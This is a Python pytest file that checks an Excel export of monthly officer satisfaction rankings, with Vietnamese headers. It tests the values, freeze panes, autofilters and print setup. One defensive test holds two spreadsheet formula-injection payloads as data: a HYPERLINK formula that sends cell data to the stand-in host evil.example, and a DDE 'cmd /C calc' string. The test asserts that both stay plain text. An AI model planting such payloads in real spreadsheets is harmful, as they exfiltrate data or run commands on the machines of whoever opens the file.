"""The Excel workbook reopens with exactly the engine's numbers, Vietnamese headers, frozen rows."""

import io

import pytest
from openpyxl import load_workbook

from admin.evaluation.report_files import ranking_file
from models.queries.month import compute_month
from models.queries.month_selection import Selection
from tests.monthdata import ZONE


@pytest.fixture
def workbook(app, db, october):
    report = compute_month(db, "2026-10", zone=ZONE)
    built = ranking_file(db, report, Selection(), app.config, "xlsx")
    assert built.filename == "xep-hang-2026-10-du-thao.xlsx"
    return report, load_workbook(io.BytesIO(built.data))


def stored(value):
    """Return a number as an XLSX file holds it: 16 significant digits (Excel shows 15)."""
    return value if value is None or isinstance(value, str) else float(f"{value:.16g}")


def _rows(sheet, header_row: int = 1) -> list[dict]:
    rows = list(sheet.iter_rows(min_row=header_row, values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_ranking_sheet_holds_the_engines_numbers(workbook):
    report, book = workbook
    sheet = book["Xếp hạng"]
    assert sheet.freeze_panes == "D3"  # the draft banner, then the headers
    assert sheet["A1"].value.startswith("DỰ THẢO: tháng chưa khóa")
    rows = {row["Mã cán bộ"]: row for row in _rows(sheet, 2)}
    headers = [cell.value for cell in sheet[2]]
    assert headers[:4] == ["STT", "Mã cán bộ", "Họ và tên", "Chức vụ"]
    for officer in report.result.officers:
        row = rows[officer.code]
        assert row["Họ và tên"] == officer.full_name
        assert row["Tổng điểm"] == officer.total_rounded
        assert row["Tổng điểm (đầy đủ)"] == stored(officer.total)
        assert row["Tỷ lệ hài lòng điều chỉnh"] == stored(officer.adjusted_satisfaction)
        assert row["Số phiếu được tính"] == officer.scored_ratings
        assert row["Xếp hạng trong điểm phục vụ"] == officer.rank_in_site
        for criterion, header in zip(officer.criteria, headers[10:18], strict=True):
            assert header.startswith(criterion.code)
            expected = criterion.points if criterion.applicable else "không áp dụng"
            assert row[header] == stored(expected)
    nhung = next(c for c in sheet[3])
    assert nhung.value == 1
    assert sheet.cell(row=3, column=11).number_format == "0.00"
    assert sheet.cell(row=3, column=10).number_format == "0.00%"


def test_every_sheet_has_unique_headers_an_autofilter_and_a_print_setup(workbook):
    _report, book = workbook
    for sheet in book.worksheets:
        header_row = 2 if sheet.title == "Xếp hạng" else 1
        headers = [cell.value for cell in sheet[header_row]]
        assert len(headers) == len(set(headers)), sheet.title
        last = sheet.cell(header_row, len(headers)).column_letter
        assert sheet.auto_filter.ref == f"A{header_row}:{last}{sheet.max_row}"
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == f"$1:${header_row}"
    notes = " ".join(str(r["Phương pháp tính"]) for r in _rows(book["Ghi chú"]))
    assert "(k + m·p0) / (n + m)" in notes and "cộng lại đúng bằng tổng điểm" in notes


def test_the_inputs_sheet_holds_what_each_officer_was_scored_on(workbook):
    report, book = workbook
    sheet = book["Đầu vào"]
    assert sheet.freeze_panes == "C2"
    rows = {row["Mã cán bộ"]: row for row in _rows(sheet)}
    for officer in report.inputs.officers:
        row = rows[officer.code]
        assert row["Phiếu xác thực"] == officer.ratings.verified
        assert row["Phiếu xác thực hài lòng"] == officer.ratings.verified_satisfied
        assert row["Phiếu bị loại"] == officer.ratings.excluded
        assert row["\"4 xin, 4 luôn\": trả lời Có (xác thực)"] == officer.conduct.yes
        assert row["Điểm lãnh đạo chấm"] == officer.leader_score
    assert rows["CB0101"]["Phiếu xác thực: Rất hài lòng"] == 4
    assert rows["CB0101"]["Tiếp nhận trực tuyến"] == 15
    assert rows["CB0102"]["Tiếp nhận trực tuyến"] is None
    assert rows["CB0102"]["Lĩnh vực đất đai, xây dựng, đầu tư"] == "Có"


def test_the_listed_ratings_and_the_method_are_in_the_workbook(workbook):
    report, book = workbook
    excluded = _rows(book["Phiếu bị loại"])
    assert [(r["Họ và tên"], r["Lý do loại"], r["Người loại"]) for r in excluded] == [
        ("Đặng Thị Ngọc Ánh", "Phiếu thử nghiệm máy tính bảng", "Lê Văn Lãnh")]  # not a log-in
    assert excluded[0]["Thời điểm đánh giá"].strftime("%d/%m/%Y %H:%M") == "06/10/2026 16:00"
    contested = _rows(book["Phiếu bị khiếu nại"])
    assert contested[0]["Lý do khiếu nại"] == "Người dân đánh giá nhầm quầy"
    about = " ".join(str(r["Nội dung"]) for r in _rows(book["Thông tin"]))
    assert report.rubric.name in about
    rates = _rows(book["Tỷ lệ chung điểm phục vụ"])
    assert rates[0]["Tỷ lệ hài lòng chung (p0)"] == stored(report.result.sites[0].satisfaction_p0)


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"x")'


def test_a_reason_typed_as_a_formula_stays_text_in_the_workbook(app, db, october):
    from zipfile import ZipFile

    from sqlalchemy import update

    from models import Rating, RatingContest

    db.execute(update(Rating).where(Rating.excluded).values(excluded_reason=FORMULA))
    db.execute(update(RatingContest).values(reason="@SUM(1+1)*cmd|' /C calc'!A0"))
    db.commit()
    report = compute_month(db, "2026-10", zone=ZONE)
    data = ranking_file(db, report, Selection(), app.config, "xlsx").data
    with ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    book = load_workbook(io.BytesIO(data))
    assert _rows(book["Phiếu bị loại"])[0]["Lý do loại"] == FORMULA


def test_the_rows_written_are_reported_and_change_nothing(app, db, october):
    assert_rows_reported(app, db, compute_month(db, "2026-10", zone=ZONE))


def assert_rows_reported(app, db, report):
    """The workbook built with a progress hook is the one built without; the hook hears of
    each row of the counted sheets (all but Thông tin and Ghi chú), then of the end."""
    heard = []
    watched = ranking_file(db, report, Selection(), app.config, "xlsx",
                           lambda done, total: heard.append((done, total)))
    plain = ranking_file(db, report, Selection(), app.config, "xlsx")
    books = [load_workbook(io.BytesIO(built.data)) for built in (watched, plain)]
    values = [[list(sheet.values) for sheet in book] for book in books]
    assert values[0] == values[1]
    counted = [name for name in books[0].sheetnames if name not in ("Thông tin", "Ghi chú")]
    rows = sum(books[0][name].max_row - (2 if name == "Xếp hạng" else 1) for name in counted)
    assert heard == [(done, rows) for done in range(rows + 1)] + [(rows, rows)]
